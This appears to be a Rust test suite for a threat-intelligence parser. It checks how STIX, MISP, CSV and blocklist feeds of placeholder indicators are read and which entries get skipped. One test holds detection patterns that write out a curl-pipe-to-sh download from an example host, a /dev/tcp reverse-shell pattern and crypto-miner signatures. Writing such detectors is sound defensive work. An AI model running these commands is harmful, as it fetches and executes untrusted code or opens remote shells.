//! How publishers write, format by format: what their manuals show and their exports do, with values of nobody. Of each
//! sample every value that must come out and every reason that must be given, and each item counted once.

use agent::intel::parse::{self, Format, Reading};
use agent::policy::{Rules, Supply, rule};
use std::sync::Arc;

use super::*;

struct Sample {
    what: &'static str,
    format: &'static str,
    text: String,
    /// `type value`, in any order.
    values: &'static [&'static str],
    /// Reasons of what is skipped by the format or by the policy, sorted.
    skipped: &'static [&'static str],
}

fn sample(
    what: &'static str,
    text: impl Into<String>,
    values: &'static [&'static str],
    skipped: &'static [&'static str],
) -> Sample {
    Sample { what, format: "auto", text: text.into(), values, skipped }
}

fn compare(sample: &Sample) -> Option<String> {
    let format: Format = sample.format.parse().unwrap();
    let parsed = match parse::parse(&Reading::from(format), &Arc::from("sample"), sample.text.as_bytes()) {
        Ok(parsed) => parsed,
        Err(error) => return Some(format!("{}: refused: {error}", sample.what)),
    };
    let read = parsed.read;
    let source = Source { allow_reserved: true, ..Source::new("sample", "sample") };
    let indicators = Arc::new(parsed.indicators);
    let ruling = rule(&[Supply::new(&source, &indicators)], &Rules::default(), REFERENCE.parse().unwrap());
    let mut values: Vec<String> =
        ruling.ruled.iter().map(|ruled| format!("{} {}", ruled.observable.type_name(), ruled.observable)).collect();
    let skips = parsed.skipped.iter().chain(ruling.skipped.iter());
    let mut reasons: Vec<String> =
        skips.map(|skipped| serde_json::to_value(skipped.reason).unwrap().as_str().unwrap().to_owned()).collect();
    values.sort();
    values.dedup();
    reasons.sort();
    let mut wanted = sample.values.to_vec();
    wanted.sort_unstable();
    let counted = ruling.outcome.block + ruling.outcome.report + reasons.len() as u64;
    let why: Vec<String> = parsed
        .skipped
        .iter()
        .chain(ruling.skipped.iter())
        .map(|skipped| format!("{}: {}", skipped.value, skipped.why))
        .collect();
    (values != wanted || reasons != sample.skipped || counted != read).then(|| {
        format!(
            "{}: {read} read, {counted} counted\n  values {values:?}\n  wanted {wanted:?}\n  skipped {reasons:?}\n  wanted  {:?}\n  why {why:#?}",
            sample.what, sample.skipped
        )
    })
}

fn hold(samples: &[Sample]) {
    let wrong: Vec<String> = samples.iter().filter_map(compare).collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), samples.len(), wrong.join("\n"));
}

/// A bundle with an indicator for each pattern, of version 2.1.
fn stix(patterns: &[&str]) -> String {
    let objects: Vec<Value> = patterns.iter().enumerate().map(|(number, pattern)| indicator(number, pattern)).collect();
    serde_json::json!({ "type": "bundle", "id": "bundle--0b5b8d9c-5d1e-4c3e-9c55-0a8f6d0e0000", "objects": objects })
        .to_string()
}

fn indicator(number: usize, pattern: &str) -> Value {
    serde_json::json!({
        "type": "indicator", "spec_version": "2.1", "id": format!("indicator--0b5b8d9c-5d1e-4c3e-9c55-0a8f6d0e{number:04x}"),
        "created": "2026-01-05T10:00:00.000Z", "modified": "2026-01-05T10:00:00.000Z", "valid_from": "2026-01-05T10:00:00Z",
        "pattern_type": "stix", "pattern": pattern,
    })
}

const SHA256: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

#[test]
fn stix_as_publishers_write_it() {
    hold(&[
        sample(
            "one property each",
            stix(&[
                "[ipv4-addr:value = '198.51.100.7']",
                "[ipv4-addr:value = '198.51.100.0/25']",
                "[ipv6-addr:value = '2001:DB8:0:0::7']",
                "[domain-name:value = 'C2.Example.NET.']",
                "[domain-name:value = 'xn--bcher-kva.example']",
                "[domain-name:value = 'bücher.example']",
                "[url:value = 'hxxp://a.example[.]net/x']",
                "[file:name = 'kworkerd']",
            ]),
            &[
                "ipv4 198.51.100.7",
                "ipv4_prefix 198.51.100.0/25",
                "ipv6 2001:db8::7",
                "domain c2.example.net",
                "domain xn--bcher-kva.example",
                "url http://a.example.net/x",
                "file_name kworkerd",
            ],
            &[],
        ),
        sample(
            "a list of alternatives, as threat reports have it",
            stix(&[
                "[ipv4-addr:value = '198.51.100.1' OR ipv4-addr:value = '198.51.100.2'] OR [domain-name:value IN ('a.example.net', 'b.example.net')]",
                "[(url:value = 'http://a.example.net/1' OR url:value = 'http://a.example.net/2')]",
            ]),
            &[
                "ipv4 198.51.100.1",
                "ipv4 198.51.100.2",
                "domain a.example.net",
                "domain b.example.net",
                "url http://a.example.net/1",
                "url http://a.example.net/2",
            ],
            &[],
        ),
        sample(
            "a file object of a MISP export",
            stix(&[&format!(
                "[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427f' AND file:hashes.'SHA-256' = '{SHA256}' AND file:name = 'x.bin' AND file:size = '7']"
            )]),
            &[
                "md5 d41d8cd98f00b204e9800998ecf8427f",
                "sha256 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            ],
            &[],
        ),
    ]);
}

#[test]
fn objects_of_misp_in_stix_are_not_taken_for_a_part_of_them() {
    hold(&[
        sample(
            "a connection object of a MISP export: an address AND a protocol is not the address",
            stix(&[
                "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.1' AND network-traffic:dst_port = '8443']",
                "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.2' AND network-traffic:dst_port = '53' AND network-traffic:protocols[0] = 'ipv4' AND network-traffic:protocols[1] = 'udp']",
                "[network-traffic:src_ref.value = '198.51.100.3' AND network-traffic:dst_ref.value = '198.51.100.4']",
                "[network-traffic:protocols[*] = 'tcp' AND network-traffic:dst_ref.value = '198.51.100.5']",
                "[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = 'c2.example.net' AND network-traffic:dst_port = 443]",
            ]),
            &["endpoint 198.51.100.1:8443"],
            &["unsupported_pattern", "unsupported_pattern", "unsupported_pattern", "unsupported_pattern"],
        ),
        sample(
            "a domain object of a MISP export: a name AND its address is neither alone",
            stix(&[
                "[domain-name:value = 'a.example.net' AND domain-name:resolves_to_refs[*].value = '198.51.100.1']",
                "[domain-name:value LIKE '%.b.example.net']",
                "[domain-name:value MATCHES '^(.*\\\\.)?c\\\\.example\\\\.net$']",
                "[domain-name:value MATCHES 'd[0-9]+\\\\.example\\\\.net']",
            ]),
            &["domain b.example.net", "domain c.example.net"],
            &["unsupported_pattern", "unsupported_pattern"],
        ),
    ]);
}

#[test]
fn stix_about_what_runs() {
    hold(&[sample(
        "what runs",
        stix(&[
            "[process:command_line = 'curl -s http://a.example.net/x | sh']",
            "[process:command_line LIKE '%/dev/tcp/%']",
            "[process:command_line LIKE '%']",
            "[process:name = 'xmrig' OR process:command_line MATCHES '(?i)stratum\\\\+tcp://']",
            "[process:image_ref.parent_directory_ref.path = '/dev/shm' AND process:image_ref.name = '.x']",
            "[process:parent_ref.name = 'nginx']",
        ]),
        &[
            "process process:command_line = 'curl -s http://a.example.net/x | sh'",
            "process process:command_line LIKE '%/dev/tcp/%'",
            "file_name xmrig",
            "process process:command_line MATCHES '(?i)stratum\\\\+tcp://'",
            "path /dev/shm/.x",
        ],
        &["too_broad", "unsupported_type"],
    )]);
}

#[test]
fn what_is_no_pattern_or_not_in_force_in_stix_is_counted() {
    let with = |number: usize, key: &str, value: Value| {
        let mut object = indicator(number, "[domain-name:value = 'a.example.net']");
        object[key] = value;
        object
    };
    let bundle = |objects: Vec<Value>| {
        serde_json::json!({ "type": "bundle", "id": "bundle--x", "objects": objects }).to_string()
    };
    hold(&[
        sample(
            "other kinds of pattern, and what is no pattern",
            bundle(vec![
                with(1, "pattern_type", "yara".into()),
                with(2, "pattern_type", "sigma".into()),
                with(3, "pattern", "".into()),
                with(4, "pattern", "domain-name:value = 'a.example.net'".into()),
                with(5, "pattern", Value::Null),
                with(6, "valid_until", "2026-02-01T00:00:00Z".into()),
                with(7, "valid_from", "2027-01-01T00:00:00Z".into()),
                with(8, "revoked", true.into()),
                with(9, "valid_until", "soon".into()),
                with(10, "confidence", 250.into()),
            ]),
            &["domain a.example.net"],
            &[
                "expired",
                "malformed",
                "malformed",
                "malformed",
                "malformed",
                "not_yet_valid",
                "revoked",
                "unsupported_pattern",
                "unsupported_pattern",
            ],
        ),
        sample(
            "objects that are none, beside one",
            bundle(vec![
                indicator(1, "[ipv4-addr:value = '198.51.100.1']"),
                serde_json::json!({ "type": "x-vendor-thing", "id": "x-vendor-thing--1", "indicators": ["198.51.100.2"] }),
                serde_json::json!({ "type": "ipv4-addr", "id": "ipv4-addr--1", "value": "198.51.100.3" }),
                serde_json::json!({ "type": "indicator" }),
                serde_json::json!("indicator"),
                Value::Null,
            ]),
            &["ipv4 198.51.100.1"],
            &["malformed", "malformed", "malformed"],
        ),
    ]);
}

/// An event with these attributes.
fn event(attributes: Value) -> String {
    serde_json::json!({ "Event": { "uuid": "5b0c8d1e-0000-4000-8000-000000000000", "info": "x", "date": "2026-01-05",
        "Attribute": attributes } })
    .to_string()
}

fn attribute(number: u32, kind: &str, value: &str, to_ids: Value) -> Value {
    serde_json::json!({ "uuid": format!("5b0c8d1e-0000-4000-8000-{number:012x}"), "type": kind, "value": value,
        "to_ids": to_ids, "timestamp": "1767607200" })
}

/// An attribute that its publisher calls an indicator.
fn on(number: u32, kind: &str, value: &str) -> Value {
    attribute(number, kind, value, true.into())
}

#[test]
fn misp_as_instances_write_it() {
    let composite = format!("dropper.bin|{SHA256}");
    let capitals = SHA256.to_uppercase();
    hold(&[
        sample(
            "the types that hosts show",
            event(serde_json::json!([
                on(1, "ip-dst", "198.51.100.1"),
                on(2, "ip-src", "198.51.100.0/28"),
                on(3, "ip-dst|port", "198.51.100.2|443"),
                on(4, "domain|ip", "a.example.net|198.51.100.3"),
                on(5, "hostname", "b.example.net"),
                on(6, "hostname|port", "c.example.net|8080"),
                on(7, "url", "https://a.example.net/x"),
                on(8, "sha256", &capitals),
                on(9, "filename|sha256", &composite),
                on(10, "filename", "/etc/cron.d/x"),
            ])),
            &[
                "ipv4 198.51.100.1",
                "ipv4_prefix 198.51.100.0/28",
                "endpoint 198.51.100.2:443",
                "domain a.example.net",
                "ipv4 198.51.100.3",
                "domain b.example.net",
                "domain c.example.net",
                "url https://a.example.net/x",
                "sha256 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                "file_name dropper.bin",
                "path /etc/cron.d/x",
            ],
            &[],
        ),
        sample(
            "to_ids in all spellings, and what hosts do not show",
            event(serde_json::json!([
                attribute(1, "ip-dst", "198.51.100.1", "1".into()),
                attribute(2, "ip-dst", "198.51.100.2", 1.into()),
                attribute(3, "ip-dst", "198.51.100.3", "0".into()),
                attribute(4, "ip-dst", "198.51.100.4", false.into()),
                on(5, "email-src", "a@b.example"),
                on(6, "mutex", "Global\\x"),
                on(7, "ssdeep", "3:a:b"),
                on(8, "ip-dst", "198.51.100.999"),
                on(9, "ip-dst|port", "198.51.100.5|0"),
                on(10, "sha512", "ab"),
            ])),
            &["ipv4 198.51.100.1", "ipv4 198.51.100.2"],
            &[
                "malformed",
                "malformed",
                "not_to_ids",
                "not_to_ids",
                "unsupported_type",
                "unsupported_type",
                "unsupported_type",
                "unsupported_type",
            ],
        ),
    ]);
}

#[test]
fn what_misp_deletes_answers_and_groups() {
    hold(&[
        sample(
            "deleted attributes, and one that comes twice",
            event(serde_json::json!([
                { "uuid": "5b0c8d1e-0000-4000-8000-000000000001", "type": "ip-dst", "value": "198.51.100.1", "to_ids": true, "deleted": true },
                { "uuid": "5b0c8d1e-0000-4000-8000-000000000002", "type": "ip-dst", "value": "198.51.100.2", "to_ids": true, "timestamp": "1" },
                { "uuid": "5b0c8d1e-0000-4000-8000-000000000002", "type": "ip-dst", "value": "198.51.100.3", "to_ids": true, "timestamp": "2" },
            ])),
            &["ipv4 198.51.100.3"],
            &["revoked"],
        ),
        sample(
            "the answer of a search",
            serde_json::json!({ "response": { "Attribute": [on(1, "domain", "a.example.net")] } }).to_string(),
            &["domain a.example.net"],
            &[],
        ),
        sample(
            "an object's attributes",
            serde_json::json!({ "response": [{ "Event": { "info": "x", "Object": [{ "name": "file", "Attribute": [
                on(1, "md5", "d41d8cd98f00b204e9800998ecf8427f"), on(2, "size-in-bytes", "7"),
                on(3, "filename", "a b.sh") ] }] } }] })
            .to_string(),
            &["md5 d41d8cd98f00b204e9800998ecf8427f", "file_name a b.sh"],
            &["unsupported_type"],
        ),
    ]);
}

#[test]
fn csv_as_exports_have_it() {
    hold(&[
        sample(
            "abuse.ch: the header is the last comment",
            "################\n# list  #\n################\n#\n# \"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"last_online\",\"malware\"\n\
             \"2026-01-05 10:00:00\",\"198.51.100.1\",\"443\",\"online\",\"2026-01-06\",\"Inkwell\"\n# Number of entries: 1\n",
            &["endpoint 198.51.100.1:443"],
            &[],
        ),
        sample(
            "a type column, quoted commas, CRLF, a byte order mark",
            "\u{feff}type,value,comment\r\nip,198.51.100.1,\"a, \"\"b\"\"\"\r\ndomain,a.example[.]net,\r\nemail,a@b.example,x\r\nip,not an address,\r\n",
            &["ipv4 198.51.100.1", "domain a.example.net"],
            &["malformed", "unsupported_type"],
        ),
        sample(
            "one row of several digests is one indicator",
            format!("sha256;sha1;md5;name\n{SHA256};;d41d8cd98f00b204e9800998ecf8427f;x\n;;;empty\n"),
            &[
                "sha256 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                "md5 d41d8cd98f00b204e9800998ecf8427f",
            ],
            &["malformed"],
        ),
        sample(
            "a new line inside quotes, and a row with more fields than the header",
            "ioc,ioc_type,reference\n\"a.example.net\",domain,\"two\nlines\"\nb.example.net,domain,x,y\n",
            &["domain a.example.net"],
            &["malformed"],
        ),
        sample(
            "popular and reserved things that a careless export holds",
            "indicator,type\ngithub.com,domain\nco.uk,domain\n0.0.0.0/0,cidr\n198.51.100.1,IPv4\n",
            &["ipv4 198.51.100.1"],
            &["benign", "too_broad", "too_broad"],
        ),
    ]);
}

#[test]
fn lists_as_they_are_found() {
    hold(&[
        sample(
            "plain, with comments of four kinds",
            "# a\n; b\n! c\n// d\n198.51.100.1\n\n198.51.100.2 # e\n",
            &["ipv4 198.51.100.1", "ipv4 198.51.100.2"],
            &[],
        ),
        sample(
            "hosts: names, not the sinks",
            "127.0.0.1 localhost\n::1 ip6-localhost ip6-loopback\n0.0.0.0 a.example.net b.example.net # x\n0.0.0.0 198.51.100.1\n0.0.0.0 0.0.0.0\n",
            &["domain a.example.net", "domain b.example.net"],
            &["benign", "benign", "benign", "malformed", "malformed"],
        ),
        sample(
            "FireHOL: a set with what is not in it",
            "create bad hash:net family inet\nadd bad 198.51.100.0/24\nadd bad 198.51.100.128/25 nomatch\nadd bad 203.0.113.1 comment \"x y\"\n",
            &["ipv4_prefix 198.51.100.0/25", "ipv4 203.0.113.1"],
            &["benign"],
        ),
        sample(
            "Spamhaus: a semicolon and a remark",
            "; Spamhaus-like\n198.51.100.0/24 ; SBL1\n2001:db8::/32 ; SBL2\n",
            &["ipv4_prefix 198.51.100.0/24", "ipv6_prefix 2001:db8::/32"],
            &[],
        ),
        sample(
            "JSON lines",
            "{\"cidr\":\"198.51.100.0/24\",\"sblid\":\"SBL1\"}\n{\"asn\":64500}\n{\"type\":\"metadata\",\"records\":1}\n",
            &["ipv4_prefix 198.51.100.0/24"],
            &["unsupported_type"],
        ),
        sample(
            "ranges",
            "198.51.100.4-198.51.100.7\n198.51.100.9 - 198.51.100.9\n198.51.100.9-198.51.100.1\n",
            &["ipv4_prefix 198.51.100.4/30", "ipv4 198.51.100.9"],
            &["malformed"],
        ),
    ]);
}

#[test]
fn lists_of_names_and_digests_as_they_are_found() {
    let as_list = |sample: Sample| Sample { format: "list", ..sample };
    hold(&[
        sample(
            "defanged, capitals, ports, credentials",
            "hxxps://user:pw@A.Example[.]NET:8443/x?y=1#z\n198[.]51[.]100[.]1:443\n[2001:db8::1]:443\nA[.]EXAMPLE[.]NET\nbücher.example\n",
            &[
                "url https://user:pw@a.example.net:8443/x?y=1#z",
                "endpoint 198.51.100.1:443",
                "endpoint [2001:db8::1]:443",
                "domain a.example.net",
                "domain xn--bcher-kva.example",
            ],
            &[],
        ),
        sample(
            "digests with names, as sha256sum prints them",
            format!(
                "{SHA256}  dropper.bin\n{SHA256} *other.bin\nd41d8cd98f00b204e9800998ecf8427f\n{}\n",
                "0".repeat(128)
            ),
            &[
                "sha256 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                "md5 d41d8cd98f00b204e9800998ecf8427f",
            ],
            &["unsupported_type"],
        ),
        sample(
            "Unicode that looks like something else",
            "pay\u{200b}load.example\nаpple.example\n198．51．100．1\nevil\u{202e}moc.example\na.example.net\n",
            &["domain xn--pple-43d.example", "domain a.example.net", "domain payload.example"],
            &["malformed", "malformed"],
        ),
        sample(
            "numbers that are no addresses",
            "1.2.3\n198.051.100.1\n3325256705\n0xc6336401\n198.51.100.1/33\n198.51.100.1.\na.example.net\n",
            &["domain a.example.net"],
            &["malformed", "malformed", "malformed", "malformed", "malformed", "malformed"],
        ),
        as_list(sample(
            "prose under a set format",
            "Indicators of compromise:\n198.51.100.1\nSee Node.js for more.\n",
            &["ipv4 198.51.100.1"],
            &["malformed", "malformed"],
        )),
        as_list(sample(
            "a wildcard covers what a name covers already",
            "*.example.net\n.b.example.net\n||c.example.net^\n",
            &[],
            &["malformed", "malformed", "malformed"],
        )),
    ]);
}
